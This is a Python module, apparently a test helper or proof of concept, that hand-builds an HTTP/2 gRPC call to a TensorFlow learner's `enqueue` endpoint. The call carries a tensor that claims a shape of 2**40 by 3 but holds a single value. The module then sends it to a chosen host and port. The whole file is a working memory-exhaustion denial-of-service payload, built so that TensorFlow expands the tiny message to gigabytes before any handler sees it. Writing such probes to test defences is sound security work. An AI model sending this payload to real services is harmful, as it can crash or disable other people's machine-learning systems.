"""A message of a few bytes that TensorFlow expands to gigabytes, for the port of a learner.

gRPC over HTTP/2, written by hand: a call of the endpoint `enqueue` whose tensor claims a shape of
[`rows`, 3] and carries one value. TensorFlow expands it before the learner's function sees it.
"""

import contextlib
import socket
import struct

_MOST_IN_FRAME = 16_000  # bytes; HTTP/2 allows 16,384


def hostile_message(rows: int = 2**40) -> bytes:
    """Return all bytes that a client sends."""
    shape = field(2, b"\x08" + _varint(rows)) + field(2, b"\x08\x03")
    tensor = b"\x08\x01" + field(2, shape) + field(5, struct.pack("<f", 0))
    return PREFACE + headers() + data_frames(field(1, b"enqueue") + field(2, tensor))


def headers() -> bytes:
    """Return the frame that begins a call."""
    fields = {
        **{":method": "POST", ":scheme": "http", ":path": "/tensorflow.rpc.RpcService/Call"},
        **{":authority": "x", "content-type": "application/grpc", "te": "trailers"},
    }
    parts = [text.encode() for field in fields.items() for text in field]
    encoded = [bytes([len(part)]) + part for part in parts]
    pairs = zip(encoded[::2], encoded[1::2], strict=True)
    return _frame(1, 4, 1, b"".join(b"\0" + name + value for name, value in pairs))


def data_frames(call: bytes) -> bytes:
    """Return the frames of a call's message, which end what is sent."""
    data = b"\0" + struct.pack(">I", len(call)) + call
    parts = [data[i : i + _MOST_IN_FRAME] for i in range(0, len(data), _MOST_IN_FRAME)]
    return b"".join(_frame(0, part is parts[-1], 1, part) for part in parts)


def send_hostile(address: str) -> socket.socket:
    """Send the message to a port, and return the connection, which stays open."""
    host, port = address.split(":")
    connection = socket.socket()
    connection.settimeout(5)
    with contextlib.suppress(ConnectionError):  # refused before it says anything
        connection.connect((host, int(port)))
        connection.sendall(hostile_message())
    return connection


def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    size = struct.pack(">I", len(content))[1:]
    return size + bytes([kind, flags]) + struct.pack(">I", stream) + content


def field(number: int, content: bytes) -> bytes:
    """Return bytes as a field of a protocol buffer."""
    return bytes([number << 3 | 2]) + _varint(len(content)) + content


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0)


def _varint(number: int) -> bytes:
    found = b""
    while number > 127:
        found += bytes([number & 127 | 128])
        number >>= 7
    return found + bytes([number])
